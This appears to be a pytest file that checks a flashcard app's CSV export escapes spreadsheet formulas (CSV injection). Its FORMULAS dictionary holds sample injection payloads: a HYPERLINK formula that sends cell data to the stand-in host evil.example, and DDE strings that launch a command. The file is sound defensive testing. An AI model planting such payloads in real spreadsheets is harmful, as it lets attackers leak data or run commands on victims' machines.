"""CSV export never hands a spreadsheet a formula (OWASP CSV injection): cells that start with
= + - @, a tab or a carriage return are written as text, with a single quote in front."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from companion.flashcards.csv import spreadsheet_safe
from companion.library import Library
from companion.store.database import write_transaction
from companion.store.models import Post

FORMULAS = {
    "我们": '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "你们": "+1+cmd|' /C calc'!A0",
    "他们": "-2+3",
    "她们": "@SUM(1+1)*cmd|' /C calc'!A0",
}


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("to study", "to study"),
        ("1+1=2", "1+1=2"),
        ("", ""),
        ("学习", "学习"),
    ],
)
def test_spreadsheet_safe(cell: str, written: str) -> None:
    assert spreadsheet_safe(cell) == written


def test_csv_cells_are_never_formulas(library: Library, tmp_path: Path) -> None:
    post = Post("test", "p1", "=1+2 标题", "=SUM(1+1) 我们去吃饭。", author="@evil")
    with write_transaction(library.db):
        post_id, _ = library.posts.save(post)
    for word, definition in FORMULAS.items():
        library.add_word(word, post_id=post_id if word == "我们" else None, tags=["=tag"])
        with write_transaction(library.db):
            library.vocabulary.edit(word, definition=definition)
    out = tmp_path / "words.csv"
    library.export("csv", out)
    with out.open(encoding="utf-8-sig", newline="") as fh:
        rows = {row["simplified"]: row for row in csv.DictReader(fh)}
    for word, definition in FORMULAS.items():
        assert rows[word]["definition"] == "'" + definition
        assert rows[word]["tags"] == "'=tag"
    we = rows["我们"]
    assert we["sentence"] == "'=SUM(1+1) 我们去吃饭。"
    assert we["source"] == "'=1+2 标题 — @evil"
    for row in rows.values():
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
